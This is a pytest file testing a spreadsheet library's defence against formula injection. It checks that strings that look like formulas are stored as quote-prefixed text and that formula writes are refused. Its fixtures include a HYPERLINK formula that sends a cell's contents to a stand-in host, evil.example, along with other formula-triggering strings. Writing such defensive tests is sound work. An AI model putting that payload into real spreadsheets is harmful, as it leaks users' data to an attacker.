"""Workbooks Linli writes keep text as text (formula injection, issue 17): whichever way a string
is written, it comes back as a string cell, and one that a spreadsheet would take for a formula
carries the quote prefix, so it stays text even when someone edits the cell. Read back with
openpyxl, the way Excel sees the file."""

from __future__ import annotations

import io

import openpyxl
import pytest

from linli.core.spreadsheets import Workbook, reads_as_formula

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
DANGEROUS = [HYPERLINK, "+86 138 0000 1111", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["王家庄村1号", "370702198001011234", "00123", "http://example.org/", "a=b", "1-2"]


def _written(big: bool, write) -> list[list[openpyxl.cell.Cell]]:
    out = io.BytesIO()
    workbook = Workbook(out, big=big)
    sheet = workbook.add_worksheet("表")
    bold = workbook.add_format({"bold": True})
    write(sheet, bold)
    workbook.close()
    return [list(r) for r in openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()]


def test_the_rule():
    assert all(reads_as_formula(text) for text in DANGEROUS)
    assert not any(reads_as_formula(text) for text in HARMLESS)


@pytest.mark.parametrize("big", [False, True], ids=["in-memory", "streamed"])
def test_every_way_of_writing_text_gives_text_that_excel_will_not_evaluate(big):
    values = DANGEROUS + HARMLESS

    def write(sheet, bold):  # row by row: a streamed workbook writes each row once
        for col, value in enumerate(values):
            sheet.write_string(0, col, value)
        for col, value in enumerate(values):
            sheet.write(1, col, value)
        sheet.write_row(2, 0, values)
        for col, value in enumerate(values):
            sheet.write_string(3, col, value, bold)

    rows = _written(big, write)
    for row in rows:
        for cell, value in zip(row, values, strict=True):
            # The text itself is kept as it was (a carriage return is stored as OOXML's
            # _x000D_ escape, which Excel decodes and openpyxl leaves as it is).
            assert cell.value.replace("_x000D_", "\r") == value
            assert cell.data_type == "s", f"{value!r} was written as {cell.data_type}"
            assert cell.quotePrefix is reads_as_formula(value), value
    # The quote prefix is added to the cell's own format, not in place of it.
    assert all(cell.font.b for cell in rows[3])


def test_numbers_stay_numbers_and_empty_text_an_empty_cell():
    def write(sheet, bold):
        sheet.write_row(0, 0, [3, 2.5, "", None, "-3"])
        sheet.write_column(1, 0, ["=1", 7])

    rows = _written(False, write)
    assert [c.value for c in rows[0]] == [3, 2.5, None, None, "-3"]
    assert [c.data_type for c in rows[0][:2]] == ["n", "n"]
    assert rows[0][4].data_type == "s" and rows[0][4].quotePrefix
    assert (rows[1][0].value, rows[1][0].data_type, rows[1][0].quotePrefix) == ("=1", "s", True)
    assert rows[2][0].value == 7


def test_formulas_are_refused():
    workbook = Workbook(io.BytesIO())
    sheet = workbook.add_worksheet("表")
    for method in (sheet.write_formula, sheet.write_array_formula):
        with pytest.raises(TypeError):
            method(0, 0, "=1+1")
    workbook.close()
